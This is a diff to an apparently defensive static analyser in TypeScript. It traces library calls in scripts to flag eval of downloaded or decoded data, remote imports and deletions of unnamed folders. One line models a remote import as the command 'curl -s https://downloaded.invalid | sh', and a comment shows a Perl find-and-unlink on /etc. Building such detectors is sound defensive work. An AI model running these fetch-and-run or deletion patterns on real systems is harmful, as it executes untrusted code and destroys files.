@@ -24,6 +24,7 @@ import {
   texts,
   UNKNOWN,
 } from "./library-values.ts";
+import { CONTENT, DECODED, DECODED_NAME, decoded, decodedByMethod, EVALUATES, READS, substitutesCode } from "./library-decode.ts";
 import { distinct, MAX_SOURCE } from "./limits.ts";
 
 /**
@@ -37,7 +38,8 @@ import { distinct, MAX_SOURCE } from "./limits.ts";
 export function readLibraryCalls(language: ScriptLanguage, source: string): Finding[] {
   if (source.length > MAX_SOURCE) return [];
   const budget = { steps: 0 };
-  const findings = evaluate(language, source, 0, budget);
+  const findings = [...evaluate(language, source, 0, budget)];
+  if (language === "perl" && substitutesCode(source)) findings.push({ does: "limit", why: "the code it runs is made of data" });
   return distinct(
     budget.steps > MOST_STEPS
       ? [...findings, { does: "limit", why: "the code is too large or too deeply nested to look through" }]
@@ -97,7 +99,17 @@ const DOWNLOAD = "downloaded text";
 const isDownload = (name: string): boolean => name.startsWith(DOWNLOAD);
 const EACH = /^(?:forEach|map|each|filter|then)$/;
 const LISTS = new Set("os.listdir fs.readdir Dir.children Dir.entries Dir.each_child Dir.foreach Deno.readDir".split(" "));
+/** Values of which nothing is known. */
+const HIDDEN: ReadonlySet<string> = new Set(["unknown", "method"]);
 const A_NAME: Known = { is: "glob", text: "*" };
+
+/** Neither written out, nor what a file holds, nor what is judged as a download. */
+const hidesCode = (value: Known): boolean =>
+  value.is === "name"
+    ? !value.name.startsWith(CONTENT) && !isDownload(value.name)
+    : value.is === "list"
+      ? texts(value).length === 0
+      : HIDDEN.has(value.is);
 
 class CallReader extends LibraryExpressions {
   protected within(code: string): Known {
@@ -135,6 +147,9 @@ class CallReader extends LibraryExpressions {
     if (value.is === "any") return { is: "any", of: value.of.map((one) => this.element(one, index)) };
     if (value.is === "name" && ENVIRONMENTS.has(value.name)) return this.environment(index);
     if (value.is === "name" && value.name === "Dir") return this.globbed(index);
+    // `f["x"]` calls a proc of Ruby.
+    if (value.is === "name" && this.language === "ruby" && this.parameters.has(value.name))
+      this.bindParameters(this.parameters.get(value.name) ?? [], { all: [index], named: NO_NAMES });
     if (index.is === "text" && (value.is === "name" || value.is === "object")) return this.member(value, index.text);
     if (value.is === "list" && index.is === "number") return value.items.at(Number(index.text)) ?? UNKNOWN;
     return UNKNOWN;
@@ -145,7 +160,8 @@ class CallReader extends LibraryExpressions {
   }
 
   protected globbed(value: Known | undefined): Known {
-    const [pattern] = value === undefined ? [] : texts(value);
+    const [given] = value === undefined ? [] : texts(value);
+    const pattern = given !== undefined && this.language === "perl" ? given.replace(/^~(?=\/|$)/, () => HOME) : given;
     return pattern === undefined ? UNKNOWN : /[*?[]/.test(pattern) ? { is: "glob", text: pattern } : { is: "list", items: [text(pattern)] };
   }
 
@@ -180,11 +196,23 @@ class CallReader extends LibraryExpressions {
     this.bindParameters(own ?? [], args);
     if (name === "Reflect.apply" && first !== undefined && args.all[2]?.is === "list")
       return this.call(first, { all: args.all[2].items, named: NO_NAMES });
-    if (isDownload(name)) return { is: "name", name };
+    if (isDownload(name) || name.startsWith(CONTENT)) {
+      // `.then(eval)`
+      for (const one of args.all.flatMap(alternatives))
+        if (one.is === "name" && EVALUATES.has(one.name)) this.call(one, { all: [{ is: "name", name: owner }], named: NO_NAMES });
+      return { is: "name", name };
+    }
+    if (name.startsWith(DECODED_NAME)) return DECODED;
+    if (this.language === "perl" && /^(?:File::Find::)?find(?:depth)?$/.test(name)) this.bindFound(args.all.slice(1));
+    const meant = decoded(name, args);
+    if (meant !== undefined) return meant;
     if (/^(?:vars|globals|locals)$/.test(name)) return first ?? { is: "name", name };
     if (/^ctypes\.(?:CDLL|PyDLL|cdll\.LoadLibrary)$/.test(name)) return { is: "name", name: "libc" };
     if (/^(?:chr|String\.fromCharCode)$/.test(name) && args.all.every((one) => one.is === "number"))
       return text(String.fromCharCode(...args.all.map((one) => Number(numberOf(one)) % 0x10000)));
+    // `import("https://…")` runs what it gets.
+    if (IMPORTS.has(name) && /^https?:/i.test(given[0] ?? "")) this.shell("curl -s https://downloaded.invalid | sh");
+    if (IMPORTS.has(name) && /^(?:data|blob):/i.test(given[0] ?? "")) this.evaluates([UNKNOWN]);
     if (IMPORTS.has(name) && given[0] !== undefined)
       return { is: "name", name: this.language === "javascript" ? moduleName(given[0]) : given[0] };
     if (/^(?:getattr|Reflect\.get)$/.test(name) && first !== undefined && second?.is === "text") return this.member(first, second.text);
@@ -204,6 +232,8 @@ class CallReader extends LibraryExpressions {
     }
     if (/^(?:functools\.)?partial$/.test(name) && first !== undefined) return { is: "bound", to: first, args: args.all.slice(1) };
     if (/^(?:map|filter)$/.test(name) && first !== undefined && second !== undefined) {
+      if (first.is === "name" && first.name === "chr" && second.is === "list")
+        return { is: "list", items: second.items.map((one) => this.call(first, { all: [one], named: NO_NAMES })) };
       this.callEach(first, second);
       return UNKNOWN;
     }
@@ -219,10 +249,13 @@ class CallReader extends LibraryExpressions {
     const effects = FUNCTIONS[this.language].get(this.language === "javascript" ? fileModule(name) : name);
     if (/^(?:\w+\.)?const_get$/.test(name) && given[0] !== undefined) return { is: "name", name: given[0] };
     if (this.language === "perl" && name.startsWith("POSIX::")) return this.callName(name.slice(7), args);
+    if (EVALUATES.has(name) && !(this.language === "perl" && name === "exec")) this.evaluates(args.all);
     if (this.language === "perl" && name === "open") this.openPerl(args);
     else if (effects !== undefined) this.apply(effects, args, undefined);
     else this.handOver(args);
     if (effects?.some(({ is }) => is === "net") === true) return { is: "name", name: DOWNLOAD };
+    if (READS.test(name)) return { is: "name", name: CONTENT };
+    if (name === "compile" && first !== undefined) return first;
     // A name of each file, and of each folder below.
     if (LISTS.has(name)) return { is: "glob", text: "*" };
     if (/^os\.f?walk$/.test(name))
@@ -231,6 +264,18 @@ class CallReader extends LibraryExpressions {
         items: given.map((root): Known => ({ is: "list", items: [{ is: "glob", text: `${root}/**` }, A_NAME, A_NAME] })),
       };
     return /^(?:glob\.i?glob|Dir\.glob|glob)$/.test(name) ? this.globbed(first) : UNKNOWN;
+  }
+
+  /** Code that is neither written here nor in a file can be anything. */
+  private evaluates(given: readonly Known[]): void {
+    const isHidden = given.slice(0, 1).flatMap(alternatives).some(hidesCode);
+    if (isHidden) this.findings.push({ does: "limit", why: "the code it runs is made of data" });
+  }
+
+  /** `find(sub { unlink $_ }, "/etc")`: names of all that is below. */
+  private bindFound(folders: readonly Known[]): void {
+    const below = folders.flatMap(texts).map((folder): Known => ({ is: "glob", text: `${folder.replace(/\/$/, "")}/**` }));
+    for (const name of ["$_", "$File::Find::name"]) this.bindEach(name, { is: "list", items: below });
   }
 
   /** `Thread(target=os.remove, args=("x",))`, `atexit.register(os.remove, "x")`: whoever is given a function may call it with the rest. */
@@ -261,6 +306,7 @@ class CallReader extends LibraryExpressions {
       if (/^(?:as_posix|to_s|to_path|__str__)$/.test(name)) return text(of.text);
       const effects = PATH_METHODS[this.language].get(name);
       if (effects !== undefined) this.apply(effects, args, of);
+      if (/^read(?:_text|_bytes)?$/.test(name)) return { is: "name", name: CONTENT };
       return /^r?glob$/.test(name) && first?.is === "text"
         ? { is: "glob", text: `${of.text}/${name === "rglob" ? "**/" : ""}${first.text}` }
         : UNKNOWN;
@@ -269,6 +315,8 @@ class CallReader extends LibraryExpressions {
       this.apply(PATH_METHODS[this.language].get(name) ?? [], args, of);
       return UNKNOWN;
     }
+    const meant = decodedByMethod(of, name, args);
+    if (meant !== undefined) return meant;
     if (name === "join" && of.is === "text" && first?.is === "list")
       return first.items.length === 0 ? text("") : first.items.reduce((a, b) => joined(a, b, of.text));
     if (name === "join" && of.is === "list")
@@ -318,6 +366,7 @@ class CallReader extends LibraryExpressions {
           this.run(args, effect.from);
           break;
         case "shell":
+          this.decodedCommand(at(effect.from));
           for (const command of texts(at(effect.from))) this.shell(command, folderOf(args));
           break;
         case "argv":
@@ -357,6 +406,9 @@ class CallReader extends LibraryExpressions {
         for (const item of one.items) this.file(operation, item, tree);
         continue;
       }
+      // Removing a folder that nobody can name is as `rm -r $x`.
+      if (tree && operation === "delete" && HIDDEN.has(one.is))
+        this.findings.push({ does: "file", operation, path: "", recursive: true, unknown: true });
       if ((one.is !== "text" && one.is !== "path" && one.is !== "glob") || one.text === "" || one.text.includes("\0")) continue;
       const more = { ...(tree ? { recursive: true as const } : {}), ...(one.is === "glob" ? { glob: true as const } : {}) };
       const path = one.text.replace(/^file:\/\//, "");
@@ -388,7 +440,13 @@ class CallReader extends LibraryExpressions {
     else this.file(/[>+]/.test(mode) ? "write" : "read", text(path), false);
   }
 
+  private decodedCommand(value: Known): void {
+    const isDecoded = alternatives(value).some((one) => one.is === "name" && one.name.startsWith(DECODED_NAME));
+    if (isDecoded) this.findings.push({ does: "limit", why: "the command it runs is made of data" });
+  }
+
   protected run(args: Arguments, from: number): void {
+    this.decodedCommand(args.all[from] ?? UNKNOWN);
     const all = args.all.filter((one) => one.is !== "object").slice(from);
     const [first = namedArgument(args, 0)] = all;
     for (const one of alternatives(first)) {
